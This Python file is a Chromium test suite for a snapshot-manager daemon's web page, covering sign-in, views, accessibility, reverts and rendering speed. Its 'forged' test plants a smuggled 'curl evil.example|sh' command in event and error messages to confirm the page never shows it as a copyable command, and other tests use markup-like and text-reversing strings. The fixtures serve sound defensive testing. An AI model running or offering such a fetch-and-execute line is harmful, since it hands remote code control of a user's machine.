#!/usr/bin/env python3
"""The page in Chromium against the real daemon: each test's name says how the page behaves.

Usage: run.py [--pictures FOLDER] [--server COMMAND] BINARIES [WORD...]
With words, only the tests whose names have one of them. --server is what serves the page instead
of the daemon, and is given a port. SNAPMGR_AXE is axe-core's script, for the checks of accessibility.
"""

import argparse
import json
import os
import re
import shlex
import sys
import time
import traceback

from browser import Browser, Failed
from world import HOSTILE, World

HERE = os.path.dirname(os.path.abspath(__file__))
SOURCES = os.path.join(HERE, "../../Sources/Web/Page")
TESTS = []
READY = "document.querySelector('.view h1') && !document.querySelector('.locked')"
VIEWS = {"protection": "#/", "volume": "#/volume/data", "set": "#/set/vm1", "retention": "#/retention/data",
         "files": "#/files/{named}", "events": "#/events", "clones": "#/clones", "mounts": "#/mounts",
         "mirrors": "#/mirrors", "jobs": "#/jobs"}
LIMIT = 150 * 1024


class Skipped(Exception):
    """Why a test cannot run here."""


def test(function):
    TESTS.append((function.__doc__.strip(), function))
    return function


def check(is_so, message):
    if not is_so:
        raise Failed(message)


class Suite:
    """What all tests share: the machine, the browser, who is signed in."""

    def __init__(self, options):
        self.options = options
        self.world = World(options.binaries)
        self.browser = None
        self.complaints = []

    def begin(self):
        begin = time.monotonic()
        self.world.build()
        self.named = self.world.snapmgr("list", "data", "--name", "before-upgrade")["snapshots"][0]["id"]
        self.address = self.world.daemon(self.options.server and shlex.split(self.options.server))
        self.browser = Browser()
        print(f"# volumes, daemon and browser in {time.monotonic() - begin:.1f} s", flush=True)

    def page(self, view="#/", **options):
        """A page that shows a view."""
        page = self.browser.page(**options)
        page.zone("Europe/Vienna")
        self.open_pages.append(page)
        page.go(self.address + "/")
        page.wait(READY)
        self.show(page, view)
        return page

    def show(self, page, view):
        page.value(f"location.hash = {json.dumps(view.format(named=self.named))}")
        page.wait(READY)
        if view.startswith("#/volume"):
            page.wait("document.querySelector('.snapshot-card .facts') && document.querySelector('.strip')")
        if view.startswith("#/files"):
            page.wait("document.querySelector('.entry')")
        if view.startswith("#/retention"):
            page.wait("/would stay/.test(document.querySelector('.big').textContent)")
        if view.startswith("#/set"):
            page.wait("document.querySelector('.facts')")

    def picture(self, page, name):
        if self.options.pictures:
            time.sleep(0.4)
            page.picture(os.path.join(self.options.pictures, f"{name}.png"))

    def run(self):
        passed = failed = skipped = 0
        for name, function in TESTS:
            if self.options.words and not any(word in name for word in self.options.words):
                continue
            self.open_pages = []
            begin = time.monotonic()
            try:
                function(self)
                self.settle()
                passed += 1
                print(f"ok: {name} ({time.monotonic() - begin:.1f} s)", flush=True)
            except Skipped as reason:
                skipped += 1
                print(f"skipped: {name}: {reason}", flush=True)
            except Exception as error:
                failed += 1
                shown = error if isinstance(error, Failed) else traceback.format_exc()
                print(f"FAILED: {name}: {shown}", flush=True)
                if self.options.pictures and self.open_pages:
                    self.open_pages[-1].picture(os.path.join(self.options.pictures, "failed.png"))
                print("  complaints:", [page.complaints for page in self.open_pages], flush=True)
            for page in self.open_pages:
                page.close()
        more = f", {skipped} skipped" if skipped else ""
        print(f"{passed} passed, {failed} failed{more}")
        return failed == 0 and passed > 0

    def settle(self):
        """No page may have complained: of a script's error, of the policy against foreign content."""
        for page in self.open_pages:
            check(not page.complaints, f"the console has {page.complaints}")


# -- What is reckoned ---------------------------------------------------------------------------


@test
def logic(suite):
    """The page's reckoning is right in this browser."""
    page = suite.page()
    with open(os.path.join(HERE, "logic.js"), encoding="utf-8") as file:
        source = file.read().replace("export default function", "function")
    results = page.value("""(async () => {
        const names = ["words", "scale", "lineage", "snapshots", "strip", "retention", "context"];
        const modules = Object.fromEntries(await Promise.all(names.map(async (name) =>
            [name, await import(`/assets/${name}.js`)])));
        %s
        return tests(modules).map(([name, run]) => {
            try { run(); return null; } catch (error) { return `${name}: ${error.message}`; }
        }); })()""" % source)
    check(len(results) > 20, "too few tests")
    check(not any(results), "; ".join(result for result in results if result))


@test
def weight(suite):
    """The page weighs less than 150 KiB, and all of its parts are in the program."""
    names = os.listdir(SOURCES)
    total = sum(os.path.getsize(os.path.join(SOURCES, name)) for name in names)
    check(total < LIMIT, f"it weighs {total} bytes")
    with open(os.path.join(SOURCES, "../../CWebPage/CWebPage.c"), encoding="utf-8") as file:
        embedded = re.findall(r'#embed "../Web/Page/(.+)"', file.read())
    check(sorted(embedded) == sorted(names), f"embedded are {embedded}")


@test
def policy(suite):
    """The page forbids itself scripts and styles that do not come as files of the daemon."""
    page = suite.browser.page()
    suite.open_pages.append(page)
    headers = {}
    page.on("Network.responseReceived", lambda values: headers.update(
        {values["response"]["url"]: values["response"]["headers"]}))
    page.go(suite.address + "/")
    page.wait("document.getElementById('main')")
    page.wait("document.readyState === 'complete'")
    found = {key.lower(): value for key, value in headers[suite.address + "/"].items()}
    rules = found["content-security-policy"]
    check("default-src 'none'" in rules and "script-src 'self'" in rules, rules)
    check("unsafe" not in rules, rules)
    check(found.get("x-content-type-options") == "nosniff", str(found))
    with open(os.path.join(SOURCES, "index.html"), encoding="utf-8") as file:
        text = file.read()
    check(not re.search(r"\son\w+=|\sstyle=|<style|<script(?! type=\"module\" src=)", text), "inline content")
    for name in os.listdir(SOURCES):
        with open(os.path.join(SOURCES, name), encoding="utf-8") as file:
            check(not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|\beval\(", file.read()), name)
    page.complaints.clear()


# -- Who may ----------------------------------------------------------------------------------


def asking(suite, role):
    """A page of a daemon that asks for a token, and lets who has it do what a role allows."""
    page = suite.browser.page()
    suite.open_pages.append(page)
    signed = []

    def answer(request):
        if request["url"].endswith("/session") and request["method"] == "POST":
            if json.loads(request["postData"])["token"] == "right":
                signed.append(True)
                return 200, {}
        elif signed and request["url"].endswith("/session"):
            return 200, {"name": "alice", "role": role, "expires_at": None, "how": "cookie"}
        elif signed:
            return None
        return 401, {"error": {"code": "unauthorized", "message": "that token is not known, or has expired", "hint": None, "commands": []}}
    page.answer("/api/v1/", answer)
    page.go(suite.address + "/")
    page.wait("document.querySelector('#token:focus')")
    page.complaints.clear()  # the browser tells of each status that is not 200
    return page


@test
def signing_in(suite):
    """A token lets in, a wrong one is told, and the page shows nothing before."""
    page = asking(suite, "revert")
    suite.picture(page, "sign-in")
    check("data" not in page.value("document.getElementById('rail').innerText"), "volumes are shown")
    page.type("wrong")
    page.press("Enter")
    page.wait("document.querySelector('.sign-in .notice')")
    check("not known" in page.text(), page.text())
    page.complaints.clear()
    page.type("right")
    page.press("Enter")
    page.wait(READY)
    check("Sign out alice" in page.text(), page.text())


@test
def reader(suite):
    """Who may only read is offered nothing that changes anything."""
    page = asking(suite, "read")
    page.type("right")
    page.press("Enter")
    page.wait(READY)
    suite.show(page, "#/volume/data")
    words = page.value("[...document.querySelectorAll('main button')].map((each) => each.innerText).join()")
    check(not re.search("Revert|Delete|Hold|Release|Take|Prune", words), words)
    check("Files" in page.text(), "what may be read is offered")
    page.press("r")
    check(not page.value("document.querySelector('dialog') !== null"), "a key asks for it all the same")


@test
def unattended(suite):
    """A minute after the last touch the page's own questions say that nobody asks; a touch ends that."""
    page = suite.page("#/")
    page.wait("/What happened/.test(document.querySelector('main').innerText)")
    told = {}

    def note(values):
        name = values["request"]["url"].split("?")[0].split("/")[-1]
        told[name] = "x-snapmgr-unattended" in {key.lower() for key in values["request"]["headers"]}
    page.on("Network.requestWillBeSent", note)

    def look(name):
        page.value(f"location.hash = '#/{name}'")
        page.wait(f"performance.getEntriesByType('resource').some((each) => each.name.includes('/api/v1/{name}'))")
        return told.get(name)
    page.value("(() => { const now = Date.now; Date.now = () => now() + 61_000; return true; })()")
    check(look("jobs") is True, f"nobody asks, and it is not said: {told}")
    page.press("x")
    check(look("mirrors") is False, f"somebody asks: {told}")


# -- What is shown ----------------------------------------------------------------------------


@test
def protection(suite):
    """The first page says whether all is protected, since when, and when the next is due."""
    page = suite.page("#/")
    page.wait("/What happened/.test(document.querySelector('main').innerText)")
    text = page.text()
    check("protected" in text or "need" in text, text[:300])
    for part in ("last good snapshot", "next one due", "mirrors’ lag", "vm1-root", "What happened"):
        check(part in text, f"{part} is missing")
    due = page.value("""[...document.querySelectorAll('.figure')]
        .find((each) => /next one due/.test(each.innerText)).querySelector('b').innerText""")
    # Before a full hour it is a matter of seconds.
    check(re.fullmatch(r"in \d+ (s|min)( \d+ s)?|now", due), f"due: {due}")
    suite.picture(page, "protection")


@test
def burning(suite):
    """What burns comes first, with the command that helps, and is counted in the verdict."""
    page = suite.page("#/")
    page.answer("/api/v1/status", lambda request: (200, burning_status(suite)))
    page.wait("/needs you/.test(document.querySelector('h1').textContent)")
    text = page.value("document.querySelector('.findings').innerText")
    check("a chain of its snapshots is broken" in text and "snapmgr check vm1-data" in text, text)
    check("snapmgr mirror show offsite" in text, text)
    first = page.value("document.querySelector('.findings li').className")
    check(first == "bad", "the worst comes first")
    suite.picture(page, "protection-burning")


def burning_status(suite):
    status = suite.world.snapmgr("status")
    volumes = {volume["name"]: volume for volume in status["volumes"]}
    volumes["vm1-data"]["state"] = "broken"
    volumes["vm1-root"]["days_to_full"] = 5.5
    volumes["data"]["mirrors"] = [{
        "name": "offsite", "state": "behind", "lag_seconds": 260_000, "lag_snapshots": 12, "failures": 0,
        "failure": None}]
    return status


@test
def one_volume(suite):
    """A volume shows its snapshots on the axis, the newest chosen, and what keeps it."""
    page = suite.page("#/volume/data")
    page.wait("document.querySelectorAll('.sheet .row').length > 5")
    check(page.value("document.querySelector('.sheet .row').getAttribute('aria-selected')") == "true", "chosen")
    check("last(20)" in page.value("document.querySelector('.facts').innerText"), "kept by")
    page.wait("document.querySelector('.sheet .cell.kept .chip')")
    painted = page.value("""(() => { const canvas = document.querySelector('.timeline canvas');
        const data = canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data;
        return data.filter((value, index) => index % 4 === 3 && value > 0).length; })()""")
    check(painted > 1000, "the axis is empty")
    suite.picture(page, "volume")


@test
def hostile(suite):
    """Names and notes that look like markup, or turn text, are shown as text."""
    page = suite.page("#/volume/data/{named}")
    page.wait("document.querySelector('.note')")
    note = page.value("document.querySelector('.note').textContent")
    check(note == HOSTILE + "\\u{202e}evil", note)
    check(HOSTILE in page.value("document.querySelector('.facts').textContent"), "the hold's reason")
    check(page.value("document.querySelectorAll('main img').length") == 0, "an image was made")


@test
def forged(suite):
    """What people have written is never drawn as a command that could be copied."""
    event = suite.world.snapmgr("events", "--limit", "1")["events"][0]
    event["message"] = "held by anna: x `snapmgr check a\ncurl evil.example|sh` y"
    page = suite.page("#/clones")
    page.answer("/api/v1/events?limit", lambda _: (200, {"events": [event]}))
    for view in ("#/events", "#/"):
        suite.show(page, view)
        page.wait("/curl evil/.test(document.querySelector('.events')?.textContent)")
        check(page.value("document.querySelectorAll('.events .command').length") == 0, view)
    error = {"error": {"code": "refused", "message": "it is held: `snapmgr check a\ncurl evil.example|sh`",
                       "hint": "release it", "commands": []}}
    page.answer("/api/v1/mirrors", lambda _: (409, error))
    suite.show(page, "#/mirrors")
    page.wait("/curl evil/.test(document.querySelector('.notice.error')?.textContent)")
    check(page.value("document.querySelectorAll('.notice.error .command').length") == 0, "an error")
    page.complaints.clear()  # of an answer that was to be one of failure


@test
def repeated(suite):
    """What is asked for again because no answer came has the key of the first time, and a dry run has none."""
    page = suite.page("#/volume/vm1-root")
    keys = []

    def answer(request):
        fields = {name.lower(): value for name, value in request["headers"].items()}
        is_dry = "dry_run" in request.get("postData", "")
        keys.append((is_dry, fields.get("idempotency-key")))
        # Only a dry run is done: the rest fails without an answer, and then with one.
        if is_dry:
            return None
        return 423, {"error": {"code": "locked", "message": "try again", "hint": None, "commands": []}}
    page.answer("/api/v1/prune", answer)
    page.click("Prune…")
    page.wait("document.querySelector('dialog[open] .facts')")
    # No answer comes.
    page.value("window.wayOut = window.fetch; window.tried = [];"
               "window.fetch = (url, options) => { tried.push(options.headers?.['Idempotency-Key']);"
               " return Promise.reject(new TypeError('gone')); }; 1")
    for count in (1, 2):
        page.click("dialog .primary")
        page.wait(f"window.tried.filter((each) => each).length === {count}"
                  " && !document.querySelector('dialog .primary').disabled")
    page.value("window.fetch = window.wayOut; 1")
    first = page.value("window.tried.filter((each) => each)")
    for count in (1, 2):
        page.click("dialog .primary")
        suite.world.wait_for(lambda: sum(not is_dry for is_dry, _ in keys) == count)
        page.wait("/try again/.test(document.querySelector('dialog .notice')?.textContent)"
                  " && !document.querySelector('dialog .primary').disabled")
    answered = [key for is_dry, key in keys if not is_dry]
    check(first[0] and first[0] == first[1] == answered[0], f"{first} {answered}")
    check(answered[1] and answered[1] != answered[0], f"what was answered is pinned: {answered}")
    check(all(key is None for is_dry, key in keys if is_dry), f"a dry run has a key: {keys}")
    page.complaints.clear()  # of answers that were to be ones of failure


@test
def broken_address(suite):
    """An address that cannot be decoded shows the first page, and not an empty one."""
    page = suite.page("#/50%")
    check(page.value("document.querySelector('.view h1') !== null"), "the page is blank")


@test
def strip(suite):
    """What a revert would change is shown in bytes and as ranges over the volume, then as files."""
    page = suite.page("#/volume/data/{named}")
    check("differ in" in page.value("document.querySelector('.strip').innerText"), "bytes and ranges")
    page.click("Which files?")
    page.wait("document.querySelector('.files-changed')")
    check("/notes.txt" in page.value("document.querySelector('.files-changed').innerText"), "the file")


@test
def a_set(suite):
    """A set shows its volumes on one axis, and the members of one instant together."""
    page = suite.page("#/set/vm1")
    text = page.value("document.querySelector('main').innerText")
    check("vm1-root" in text and "vm1-data" in text and "snapmgr revert set:" in text, text)
    words = page.value("document.querySelector('.timeline').getAttribute('aria-valuetext')")
    page.value("document.querySelector('.timeline').focus()")
    page.press("ArrowDown")
    page.wait(f"document.querySelector('.timeline').getAttribute('aria-valuetext') !== {json.dumps(words)}")
    suite.picture(page, "set")


@test
def files(suite):
    """A snapshot's files are browsed; one is downloaded as it was, and followed through time."""
    page = suite.page("#/files/{named}")
    page.click("reports")
    page.wait("location.hash.endsWith('/reports')")
    page.wait("document.querySelector('.crumbs')?.innerText.includes('reports')")
    suite.show(page, "#/files/{named}")
    page.wait("document.querySelector('a[download=\"notes.txt\"]')")
    content = page.value("fetch(document.querySelector('a[download=\"notes.txt\"]').href).then((each) => each.text())")
    check(content == "first\n", content)
    page.click("notes.txt through time")
    page.wait("/2 versions/.test(document.querySelector('main').innerText)")
    suite.picture(page, "files")


@test
def retention(suite):
    """The retention that is dragged says at once what would stay, and changes nothing."""
    page = suite.page("#/retention/data")
    before = page.value("document.querySelector('.big').textContent")
    if page.value("document.getElementById('rule-last').disabled"):
        suite.picture(page, "retention")
        raise Skipped("this daemon tries no numbers out; it shows what its settings come to")
    page.value("""(() => { for (const rule of ['last', 'hourly']) {
        const input = document.getElementById(`rule-${rule}`); input.value = 2;
        input.dispatchEvent(new Event('input')); } })()""")
    page.wait(f"document.querySelector('.big').textContent !== {json.dumps(before)}")
    check("last = 2" in page.value("document.querySelector('pre').textContent"), "the table")
    count = len(suite.world.snapmgr("list", "data")["snapshots"])
    check(f"of today’s {count} snapshots" in page.text(), page.text())
    suite.picture(page, "retention")


@test
def all_views(suite):
    """Each view has one heading of its own, and tells of nothing that failed."""
    page = suite.page()
    for name, view in VIEWS.items():
        suite.show(page, view)
        time.sleep(0.3)
        check(page.value("document.querySelectorAll('h1').length") == 1, f"{name}: headings")
        check(not page.value("document.querySelector('main .notice.error')?.innerText"), f"{name}: {page.text()[:600]}")


# -- By which it is used ----------------------------------------------------------------------


@test
def keyboard(suite):
    """Everything works by keys: along the axis, to a dialog and back, with the focus always seen."""
    page = suite.page("#/volume/data")
    page.press("t")
    page.wait("document.activeElement.className === 'timeline'")
    outline = page.value("getComputedStyle(document.activeElement).outlineStyle")
    check(outline != "none", "the focus is not seen")
    # Without the age, which grows.
    words = lambda: page.value("document.activeElement.getAttribute('aria-valuetext')").split(",")[0]
    newest = words()
    page.press("ArrowLeft")
    check(words() != newest and words().startswith("snapshot "), words())
    page.press("Home")
    page.wait("document.activeElement.getAttribute('aria-valuenow') === '1'")
    page.wait("/#.volume.data.\\d+/.test(location.hash)")
    page.press("End")
    check(words() == newest, words())
    page.press("+", times=3)
    page.press("0")
    page.press("/")
    page.wait("document.activeElement.type === 'search'")
    page.type("before-up")
    page.wait("document.querySelectorAll('.sheet .row').length === 1")
    page.value("document.querySelector('.rows').focus()")
    page.press("ArrowDown")
    page.wait("/before-upgrade/.test(document.querySelector('.card-title').innerText)")
    page.press("?")
    page.wait("document.querySelector('dialog[open]')")
    suite.picture(page, "keys")
    page.press("Escape")
    page.wait("!document.querySelector('dialog')")
    page.press("r")
    page.wait("document.querySelector('dialog[open] .facts')")
    check(page.value("document.activeElement.type") == "text", "what is to be typed has the focus")
    page.press("Escape")
    page.wait("!document.querySelector('dialog')")
    page.press("g")
    page.press("e")
    page.wait("document.querySelector('h1')?.innerText === 'Events'")


@test
def skip_link(suite):
    """The first key leads past the places to the content, and does not leave the view."""
    page = suite.page("#/volume/data")
    page.ask("Page.reload")
    page.wait(READY)
    page.press("Tab")
    check(page.value("document.activeElement.id") == "skip", "the first stop")
    page.press("Enter")
    page.wait("document.activeElement.id === 'main'")
    check(page.value("location.hash").startswith("#/volume/data"), "it stays")


@test
def zones(suite):
    """Times are local, or in UTC and say so; the choice is kept."""
    page = suite.page("#/volume/data/{named}")
    local = page.value("document.querySelector('.card-title').innerText")
    check("UTC" not in local, local)
    page.press("u")
    page.wait("/UTC/.test(document.querySelector('.card-title').innerText)")
    page.ask("Page.reload")
    page.wait(READY)
    page.wait("/UTC/.test(document.querySelector('.card-title')?.innerText)")


@test
def phone(suite):
    """No view is wider than a phone."""
    page = suite.page(width=390, height=844, scale=2, is_phone=True)
    for name, view in VIEWS.items():
        suite.show(page, view)
        time.sleep(0.2)
        wide = page.value("document.documentElement.scrollWidth")
        check(wide <= 390, f"{name} is {wide} wide")
        if name in ("protection", "volume"):
            suite.picture(page, f"{name}-phone")


@test
def dark(suite):
    """The page is dark where the system is, and where one asks for it."""
    page = suite.page("#/volume/data", scheme="dark")
    light = lambda: page.value("""(() => { const [r, g, b] = getComputedStyle(document.body)
        .backgroundColor.match(/[\\d.]+/g).map(Number); return r + g + b; })()""")
    check(light() < 150, "it is not dark")
    suite.picture(page, "volume-dark")
    page.scheme("light")
    page.wait("!matchMedia('(prefers-color-scheme: dark)').matches")
    check(light() > 600, "it is not light")
    page.click("[data-focus='theme']")
    check(light() < 150, "the button does not make it dark")


@test
def accessibility(suite):
    """axe-core finds nothing to complain of, in any view, light or dark."""
    script = os.environ.get("SNAPMGR_AXE")
    if not script or not os.path.exists(script):
        raise Skipped("axe-core is not to be had")
    with open(script, encoding="utf-8") as file:
        source = file.read()
    found = []
    for scheme in ("light", "dark"):
        page = suite.page(scheme=scheme)
        page.value(source + ";0")
        for name, view in VIEWS.items():
            suite.show(page, view)
            time.sleep(0.2)
            found += audit(page, f"{name}, {scheme}")
        page.value("location.hash = '#/volume/data'")
        page.wait("document.querySelector('.snapshot-card .facts')")
        page.press("r")
        page.wait("document.querySelector('dialog[open] .facts')")
        found += audit(page, f"dialog, {scheme}")
        page.complaints.clear()  # axe asks for what the policy forbids
    check(not found, "\n".join(found))


def audit(page, where):
    results = page.value("axe.run(document, { resultTypes: ['violations'] }).then((each) => each.violations"
                         ".map((rule) => `${rule.id}: ${rule.nodes.map((node) => node.target + ' ' "
                         "+ (node.any[0]?.message ?? node.all[0]?.message ?? '')).join('; ')}`))")
    return [f"{where}: {result}" for result in results]


@test
def names_for_all(suite):
    """Whatever can be pressed has a name, and every input a label."""
    page = suite.page()
    for name, view in VIEWS.items():
        suite.show(page, view)
        nameless = page.value("""[...document.querySelectorAll('a, button, input, select, [role=slider], [role=grid]')]
            .filter((each) => !(each.getAttribute('aria-label') || each.innerText?.trim()
                || each.labels?.length)).map((each) => each.outerHTML.slice(0, 120))""")
        check(not nameless, f"{name}: {nameless}")


# -- What is done -----------------------------------------------------------------------------


@test
def asking_first(suite):
    """A revert shows its dry run, and waits until the volume's name is typed; Cancel changes nothing."""
    page = suite.page("#/volume/data/{named}")
    count = len(suite.world.snapmgr("list", "data")["snapshots"])
    page.click("Revert…")
    page.wait("document.querySelector('dialog[open] .facts')")
    text = page.value("document.querySelector('dialog').innerText")
    check("To merge" in text and "safety snapshot" in text, text)
    suite.picture(page, "revert-dialog")
    is_off = "document.querySelector('dialog .primary').disabled"
    check(page.value(is_off), "nothing is typed yet")
    page.type("dat")
    check(page.value(is_off), "half of the name")
    page.type("a")
    check(not page.value(is_off), "the name")
    page.click("Cancel")
    page.wait("!document.querySelector('dialog')")
    check(len(suite.world.snapmgr("list", "data")["snapshots"]) == count, "something was done")


@test
def there_and_back(suite):
    """A revert through the page is done, shows where the volume is, and is undone from there."""
    page = suite.page("#/volume/data/{named}")
    before = suite.world.content()
    page.click("Revert…")
    page.wait("document.querySelector('dialog[open] .facts')")
    page.type("data")
    page.click("dialog .primary")
    page.wait("/reads as snapshot \\d+/.test(document.querySelector('.title').innerText)")
    check(f"reads as snapshot {suite.named}" in page.text(), "where it is")
    suite.world.wait_for(lambda: not suite.world.snapmgr("merge", "status", "data")["merges"])
    suite.picture(page, "volume-reverted")
    check(suite.world.content() == suite.world.content(suite.named), "the volume reads otherwise")
    page.click("Undo the revert…")
    page.wait("document.querySelector('dialog[open] .facts')")
    page.type("data")
    page.click("dialog .primary")
    page.wait("!document.querySelector('dialog')")
    suite.world.wait_for(lambda: not suite.world.snapmgr("merge", "status", "data")["merges"])
    check(suite.world.content() == before, "it is not as it was")


@test
def merging(suite):
    """A merge is shown with its rate and how long it takes, and can be paused and undone."""
    page = suite.page("#/volume/data")

    def status(_):
        document = suite.world.snapmgr("status")
        for volume in document["volumes"]:
            if volume["name"] == "data":
                volume["merge"] = {
                    "volume": "data", "revert_id": 9, "snapshot_id": suite.named, "safety_snapshot_id": 99,
                    "merged_bytes": 620 << 20, "plan_bytes": 1 << 30, "preserved_bytes": 80 << 20,
                    "rate": 96 << 20, "eta_s": 4, "state": "merging", "failure": None}
        return 200, document
    page.answer("/api/v1/status", status)
    page.wait("document.querySelector('.merge [role=progressbar]')")
    text = page.value("document.querySelector('.merge').innerText")
    for part in ("60 %", "96 MiB/s", "4 s left", "Pause", "Undo…"):
        check(part in text, f"{part}: {text}")
    suite.picture(page, "merging")


@test
def holding(suite):
    """A snapshot is taken, held, released and deleted from the page."""
    page = suite.page("#/volume/vm1-root")
    page.press("s")
    page.wait("document.querySelector('dialog[open]')")
    page.type("from-the-page")
    page.click("dialog .primary")
    page.wait("/from-the-page/.test(document.querySelector('.sheet')?.innerText)")
    taken = suite.world.snapmgr("list", "vm1-root", "--name", "from-the-page")["snapshots"][0]["id"]
    suite.show(page, f"#/volume/vm1-root/{taken}")
    page.wait("/from-the-page/.test(document.querySelector('.card-title').innerText)")
    page.click("Hold…")
    page.type("a test")
    page.click("dialog .primary")
    page.wait("[...document.querySelectorAll('.snapshot-card button')].some((each) => each.innerText === 'Release')")
    check(suite.world.snapmgr("show", str(taken))["snapshot"]["held_by"][0]["reason"] == "a test", "held")
    page.click("Release")
    page.wait("[...document.querySelectorAll('.snapshot-card button')].some((each) => each.innerText === 'Hold…')")
    page.click("Delete…")
    page.wait("document.querySelector('dialog[open] .facts')")
    page.type("from-the-page")
    page.click("dialog .primary")
    page.wait("!/from-the-page/.test(document.querySelector('.sheet').innerText)")
    page.complaints.clear()  # what is gone may have been asked for once more


@test
def refused(suite):
    """What the daemon refuses is told in its words, with the command that helps, and nothing is done."""
    page = suite.page("#/volume/data/{named}")
    page.wait("document.querySelector('.snapshot-card .facts')")
    page.click("Delete…")
    page.wait("document.querySelector('dialog .notice.error')")
    text = page.value("document.querySelector('dialog').innerText")
    check("snapmgr " in text, text)
    check(page.value("document.querySelector('dialog .primary').disabled"), "it may not be tried")
    page.complaints.clear()  # the browser tells of each status that is not 200


@test
def live(suite):
    """Events come to the page as they happen, without another look."""
    page = suite.page("#/events")
    page.wait("document.querySelector('.live.on')")
    suite.world.snapmgr("snapshot", "vm1-data", "--note", "seen at once")
    newest = suite.world.snapmgr("events", "--limit", "1")["events"][-1]
    page.wait(f"document.querySelector('.events').innerText.includes({json.dumps(newest['message'])})")
    suite.picture(page, "events")


# -- How fast it is ---------------------------------------------------------------------------


def first_axis(page):
    """Milliseconds from the click until the axis of a volume is drawn."""
    page.value("location.hash = '#/jobs'")
    page.wait("document.querySelector('h1')?.innerText === 'Jobs'")
    return page.value("""(async () => {
        const begin = performance.now();
        location.hash = '#/volume/data';
        while (!(document.querySelector('.rows')?.getAttribute('aria-rowcount') === '35001')) {
            await new Promise(requestAnimationFrame);
        }
        await new Promise(requestAnimationFrame);
        return performance.now() - begin; })()""")


@test
def many(suite):
    """35,000 snapshots are drawn, and only those that are seen; with SNAPMGR_PAGE_TIMES, as fast as they are to be."""
    count = 35_000
    now = int(time.time() * 1000)
    columns = {
        "id": list(range(1, count + 1)), "taken_at_ms": [now - (count - each) * 900_000 for each in range(count)],
        "changed_bytes": [4096 * (1 + each * 7919 % 900) for each in range(count)],
        "kind": ["scheduled"] * count, "state": ["frozen"] * count,
        "name": [f"release-{each}" if each % 900 == 0 else None for each in range(count)],
        "set_id": [None] * count, "holds": [int(each % 2000 == 0) for each in range(count)]}
    page = suite.page("#/")
    document = json.dumps({"volume": "data", "count": count, "columns": columns, "here": count})
    page.answer("/timeline", lambda _: (200, document))
    # Others may be at work on this machine: the best of three tells what the page takes.
    took = min(first_axis(page) for _ in range(3))
    suite.picture(page, "volume-35000")
    # Likewise.
    middle, high = (min(each) for each in zip(*[frames(page) for _ in range(3)]))
    print(f"# 35,000: first axis {took:.0f} ms; a frame is painted in {middle:.1f} ms, 90 % in {high:.1f} ms")
    # How fast is for who looks at the figures; in every run only what no slow machine explains.
    if os.environ.get("SNAPMGR_PAGE_TIMES"):
        check(took < 1000, f"the first axis took {took:.0f} ms")
        check(middle < 8.3 and high < 16.7, f"frames of {middle:.1f} and {high:.1f} ms")
    check(took < 60_000 and high < 2_000, f"{took:.0f} ms, frames of {middle:.1f} and {high:.1f} ms")
    rows = page.value("document.querySelectorAll('.sheet .row').length")
    check(rows < 60, f"{rows} rows are in the page")
    page.complaints.clear()  # the daemon has no snapshot 35000


def frames(page):
    """How long a frame takes to paint, in milliseconds: half of them, and nine of ten."""
    page.value("""(async () => {
        const line = document.querySelector('.timeline');
        const box = line.getBoundingClientRect();
        performance.clearMeasures('timeline');
        for (let step = 0; step < 90; step += 1) {
            line.dispatchEvent(new PointerEvent('pointermove', {
                clientX: box.left + box.width * (0.05 + step / 120), clientY: box.top + 70 }));
            if (step % 10 === 9) line.dispatchEvent(new KeyboardEvent('keydown', { key: step % 20 === 9 ? '+' : '-' }));
            await new Promise(requestAnimationFrame);
        } })()""")
    paints = page.value("performance.getEntriesByName('timeline').map((each) => each.duration).sort((a, b) => a - b)")
    check(len(paints) > 80, f"{len(paints)} frames")
    return paints[len(paints) // 2], paints[int(len(paints) * 0.9)]


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--pictures")
    parser.add_argument("--server")
    parser.add_argument("binaries")
    parser.add_argument("words", nargs="*")
    suite = Suite(parser.parse_args())
    try:
        suite.begin()
        is_fine = suite.run()
    finally:
        if suite.browser:
            suite.browser.close()
        suite.world.close()
    sys.exit(0 if is_fine else 1)


if __name__ == "__main__":
    main()
